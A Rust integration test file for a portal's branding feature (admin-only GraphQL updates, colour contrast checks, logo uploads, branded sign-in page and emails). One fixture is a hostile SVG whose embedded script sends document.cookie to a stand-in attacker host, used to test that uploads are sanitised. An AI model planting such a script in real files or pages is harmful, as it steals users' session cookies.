//! The firm's brand (issue 19): set by an admin, over GraphQL and in the admin UI, and worn by
//! the portal's pages, its sign-in page, the favicon and every email; served by every process
//! on its next request. A colour too light to read is refused, a logo that is an HTML page is
//! refused, and an SVG logo loses its script.

use crate::admin_browser::sign_in;
use crate::helpers::{ADMIN_EMAIL, ADMIN_PASSWORD, Client, Server, TestDb, code};
use crate::portal::{PUBLIC, portal_app};
use crate::webdriver::Browser;
use serde_json::{Value, json};

const READ: &str = "{ branding { firmName welcomeText primaryColor currency logoUrl } }";
const UPDATE: &str = "mutation($i: BrandingInput!) { updateBranding(input: $i) { firmName welcomeText primaryColor currency logoUrl } }";
const LOGO: &str = "mutation($file: Upload!) { uploadBrandingLogo(file: $file) { logoUrl } }";

const HOSTILE_SVG: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 32" onload="fetch('/graphql')"><script>document.location='https://evil.example/?'+document.cookie</script><rect width="64" height="32" rx="6" fill="#0b5394"/><text x="32" y="22" fill="#fff" font-family="sans-serif" font-size="16" font-weight="bold" text-anchor="middle">AP</text></svg>"##;

async fn get(url: &str) -> reqwest::Response {
    reqwest::get(url).await.expect("GET")
}

#[tokio::test]
async fn an_admin_brands_the_portal_and_only_an_admin_can() {
    let t = portal_app().await;
    let server = t.app.server.url.clone();
    // Anyone reads it, signed in or not, on both endpoints: the sign-in page wears it.
    let defaults = json!({"firmName": "", "welcomeText": "", "primaryColor": "#1d4ed8", "currency": "EUR", "logoUrl": null});
    assert_eq!(
        t.app.client().ok(READ, json!({})).await["branding"],
        defaults
    );
    assert_eq!(
        t.app.portal().ok(READ, json!({})).await["branding"],
        defaults
    );

    // Changing it is admin work: staff (even with the portal setting) and strangers are refused.
    let change = json!({"i": {"firmName": "Intrusos S.L."}});
    assert_eq!(
        code(&t.manager.err(UPDATE, change.clone()).await),
        "FORBIDDEN"
    );
    assert_eq!(
        code(&t.app.client().err(UPDATE, change.clone()).await),
        "UNAUTHENTICATED"
    );
    let (_, body) = t
        .manager
        .upload_raw(LOGO, json!({}), "logo.png", "image/png", &png())
        .await;
    assert_eq!(code(&body["errors"][0]), "FORBIDDEN", "{body}");

    // A colour too light to read on white is refused, named, and nothing is half-saved.
    let e = t
        .app
        .admin
        .err(
            UPDATE,
            json!({"i": {"firmName": "Asesoría Pérez", "primaryColor": "#8ab4f8"}}),
        )
        .await;
    assert_eq!(code(&e), "VALIDATION");
    assert_eq!(e["extensions"]["field"], "primaryColor");
    assert!(e["message"].as_str().unwrap().contains("4.5:1"), "{e}");
    assert_eq!(
        t.app.client().ok(READ, json!({})).await["branding"],
        defaults
    );
    let e = t
        .app
        .admin
        .err(UPDATE, json!({"i": {"currency": "euros"}}))
        .await;
    assert_eq!(e["extensions"]["field"], "currency");

    let saved = t
        .app
        .admin
        .ok(
            UPDATE,
            json!({"i": {"firmName": "  Asesoría Pérez  ", "welcomeText": "Bienvenido.\nSu asesoría, en línea.", "primaryColor": "#0B5394", "currency": "eur"}}),
        )
        .await;
    assert_eq!(
        saved["updateBranding"],
        json!({"firmName": "Asesoría Pérez", "welcomeText": "Bienvenido.\nSu asesoría, en línea.", "primaryColor": "#0b5394", "currency": "EUR", "logoUrl": null})
    );
    // Values left out stay.
    let d = t
        .app
        .admin
        .ok(UPDATE, json!({"i": {"currency": "USD"}}))
        .await;
    assert_eq!(d["updateBranding"]["firmName"], "Asesoría Pérez");
    t.app
        .admin
        .ok(UPDATE, json!({"i": {"currency": "EUR"}}))
        .await;

    // Logos: an HTML page is refused whatever it is called; an SVG loses its script.
    let (_, body) = t
        .app
        .admin
        .upload_raw(
            LOGO,
            json!({}),
            "logo.svg",
            "image/svg+xml",
            b"<html><body><script>alert(1)</script><svg></svg></body></html>",
        )
        .await;
    assert_eq!(code(&body["errors"][0]), "VALIDATION", "{body}");
    assert_eq!(body["errors"][0]["extensions"]["field"], "file");
    let d = t
        .app
        .admin
        .upload(LOGO, json!({}), "logo.svg", HOSTILE_SVG.as_bytes())
        .await;
    let logo_url = d["uploadBrandingLogo"]["logoUrl"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        logo_url.starts_with(&format!("{PUBLIC}/branding/logo-")) && logo_url.ends_with(".svg"),
        "{logo_url}"
    );
    let path = logo_url.trim_start_matches(PUBLIC);
    let r = get(&format!("{server}{path}")).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/svg+xml");
    assert!(
        r.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("default-src 'none'")
    );
    assert!(
        r.headers()["cache-control"]
            .to_str()
            .unwrap()
            .contains("immutable")
    );
    let svg = r.text().await.unwrap();
    assert!(
        !svg.contains("script") && !svg.contains("onload") && !svg.contains("evil"),
        "{svg}"
    );
    assert!(
        svg.contains(">AP</text>") && svg.contains("#0b5394"),
        "{svg}"
    );
    let favicon = get(&format!("{server}/favicon.ico")).await;
    assert_eq!(favicon.headers()["content-type"], "image/svg+xml");
    assert_eq!(favicon.text().await.unwrap(), svg);

    // The sign-in page wears it: name, welcome text, logo, colour, favicon.
    let page = get(&format!("{server}/portal/login"))
        .await
        .text()
        .await
        .unwrap();
    assert!(page.contains("· Asesoría Pérez</title>"), "{page}");
    assert!(
        page.contains("Bienvenido.\nSu asesoría, en línea."),
        "{page}"
    );
    assert!(page.contains(&format!("<img src=\"{path}\"")), "{page}");
    assert!(page.contains("--accent: #0b5394"), "{page}");
    assert!(
        page.contains(&format!("<link rel=\"icon\" href=\"{path}\">")),
        "{page}"
    );

    // So does every email: the invitation a new client gets.
    t.create_contact(json!({"name": "Ana", "email": "ana@example.com", "portalUser": true}))
        .await;
    let mail = t.mail("ana@example.com", 1).await;
    let html = mail.html();
    assert!(
        html.contains(&format!("<img src=\"{logo_url}\" alt=\"Asesoría Pérez\"")),
        "{html}"
    );
    assert!(html.contains("background: #0b5394"), "{html}");
    assert!(
        mail.text().trim_end().ends_with("Asesoría Pérez"),
        "{}",
        mail.text()
    );

    // An older logo's address is gone once a new one is uploaded; removing leaves none.
    let d = t
        .app
        .admin
        .upload(LOGO, json!({}), "logo.png", &png())
        .await;
    assert!(
        d["uploadBrandingLogo"]["logoUrl"]
            .as_str()
            .unwrap()
            .ends_with(".png")
    );
    assert_eq!(get(&format!("{server}{path}")).await.status(), 404);
    assert_eq!(
        t.app
            .admin
            .ok("mutation { removeBrandingLogo }", json!({}))
            .await["removeBrandingLogo"],
        true
    );
    assert_eq!(
        t.app.client().ok(READ, json!({})).await["branding"]["logoUrl"],
        Value::Null
    );
    let favicon = get(&format!("{server}/favicon.ico")).await;
    assert_eq!(favicon.headers()["content-type"], "image/svg+xml");
}

/// A 1x1 PNG.
fn png() -> Vec<u8> {
    let mut bytes =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec();
    bytes.extend_from_slice(
        b"\0\0\0\rIDATx\x9cc\xf8\xff\xff?\0\x05\xfe\x02\xfe\xa7\x35\x81\x84\0\0\0\0IEND\xaeB`\x82",
    );
    bytes
}

#[tokio::test]
async fn a_brand_change_through_one_process_is_served_by_the_other() {
    let db = TestDb::new().await;
    let a = Server::start(&db, &[]);
    let b = Server::start(&db, &[]);
    let admin = Client::new(&a.url).login(ADMIN_EMAIL, ADMIN_PASSWORD).await;
    let before = get(&format!("{}/portal/login", b.url))
        .await
        .text()
        .await
        .unwrap();
    assert!(!before.contains("Gestoría Norte"));
    admin
        .ok(
            UPDATE,
            json!({"i": {"firmName": "Gestoría Norte", "primaryColor": "#7a1f1f"}}),
        )
        .await;
    let after = get(&format!("{}/portal/login", b.url))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        after.contains("Gestoría Norte") && after.contains("#7a1f1f"),
        "{after}"
    );
    let d = Client::new(&b.url).ok(READ, json!({})).await;
    assert_eq!(d["branding"]["firmName"], "Gestoría Norte");
}

/// As an admin does it: the Branding screen, a colour too light (the screen says so and will
/// not save), a readable one, a name and a logo; then the client's sign-in page wears them.
#[tokio::test]
async fn an_admin_sets_the_brand_in_the_browser_and_the_portal_wears_it() {
    let t = portal_app().await;
    let server = t.app.server.url.clone();
    let b = Browser::start(true).await;
    b.goto(&format!("{server}/admin/branding")).await;
    sign_in(&b, ADMIN_EMAIL, ADMIN_PASSWORD).await;
    b.wait_for("id=\"br-firmName\"").await;
    b.type_into("#br-firmName", "Asesoría Pérez").await;
    b.type_into("#br-welcomeText", "Bienvenido a su portal.")
        .await;
    // A colour input takes its value from script, as the picker would set it.
    let pick = |c: &str| {
        format!(
            "const i = document.querySelector('#br-primaryColor'); i.value = '{c}'; i.dispatchEvent(new Event('input', {{bubbles: true}}));"
        )
    };
    b.run(&pick("#9ec5fe")).await;
    b.wait_for("es demasiado bajo").await;
    b.wait_until("return document.querySelector('#branding-form button[type=submit]').disabled")
        .await;
    b.run(&pick("#0b5394")).await;
    b.wait_for("legible").await;
    b.click("#branding-form button[type=submit]").await;
    b.wait_for("Imagen guardada").await;
    let dir = crate::helpers::TempDir::new();
    let logo = dir.0.join("logo.svg");
    std::fs::write(&logo, HOSTILE_SVG).unwrap();
    b.choose_files("#br-logo", &[logo]).await;
    b.wait_for("Logotipo guardado").await;
    b.wait_for("class=\"logo-preview\"").await;
    b.check("admin-branding").await;
    // After a reload the screen shows what was saved.
    b.refresh().await;
    b.wait_for_value("#br-firmName", "Asesoría Pérez").await;

    let p = Browser::start(true).await;
    p.goto(&format!("{server}/portal/login")).await;
    p.wait_for("Bienvenido a su portal.").await;
    let source = p.source().await;
    assert!(
        source.contains("Asesoría Pérez") && source.contains("--accent: #0b5394"),
        "{source}"
    );
    let colour = p
        .run("return getComputedStyle(document.querySelector('form.stack button[type=submit]')).backgroundColor")
        .await;
    assert_eq!(colour, "rgb(11, 83, 148)");
    p.check("portal-login-branded").await;
}
